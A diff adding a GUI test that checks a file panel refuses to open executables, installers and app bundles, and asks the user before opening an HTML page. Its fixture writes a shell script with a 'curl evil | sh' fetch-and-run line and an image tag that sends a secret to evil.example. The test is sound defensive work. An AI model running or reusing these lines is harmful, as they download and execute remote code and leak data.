@@ -103,3 +103,41 @@ def test_restrictions_still_hold(qtbot, panel, monkeypatch, tmp_path):
     (workspace / NAME).symlink_to(tmp_path)
     qtbot.mouseClick(panel.notice_reveal, Qt.LeftButton)
     assert asked == [] and "does not follow it" in panel.notice_label.text()
+
+
+MADE = ("<execute>\nimport os\nopen('invoice', 'wb').write(b'MZ\\x90\\x00' + bytes(60))\n"
+        "open('notes', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
+        "os.makedirs('Report.app/Contents/MacOS')\nopen('Report.app/Contents/MacOS/Report', 'w').write('x')\n"
+        "open('setup.deb', 'wb').write(b'!<arch>\\n')\n"
+        "open('report.html', 'w').write('<img src=\"https://evil.example/?d=secret\">')\n"
+        "open('data.csv', 'w').write('x\\n1\\n')\n</execute>")
+
+
+def test_open_judges_content_and_bundles_and_asks_before_a_page(qtbot, window, monkeypatch):
+    # Open handed these to the desktop: a suffix-less PE (wine runs it), a suffix-less shell
+    # script, a macOS app bundle (a folder), an installer; and a page the browser loads with
+    # the network the kernel lacks, sending what the code read.
+    win, _ = window([MADE, "Written."])
+    send(qtbot, win, "write the files")
+    wait_idle(qtbot, win)
+    panel, asked, refused = win.files_panel, [], []
+    qtbot.waitUntil(lambda: panel.list.count() >= 6, timeout=10_000)
+    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
+    panel.open_refused.connect(refused.append)
+    for name in ("invoice", "notes", "setup.deb"):
+        select(panel, name)
+        panel.open_selected()
+    monkeypatch.setattr(panel, "selected_relative", lambda: "Report.app")
+    monkeypatch.setattr(panel, "_selected_kind", lambda: "folder")
+    panel.open_selected()
+    monkeypatch.undo()
+    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
+    assert asked == [] and len(refused) == 4 and all("could start a program" in r for r in refused), refused
+    select(panel, "report.html")
+    panel.open_selected()
+    assert asked == [] and shown(panel.notice) and "opens in your web browser" in panel.notice_label.text()
+    qtbot.mouseClick(panel.notice_open, Qt.LeftButton)  # the user says so
+    assert [Path(p).name for p in asked] == ["report.html"]
+    select(panel, "data.csv")
+    panel.open_selected()
+    assert [Path(p).name for p in asked] == ["report.html", "data.csv"] and not shown(panel.notice)
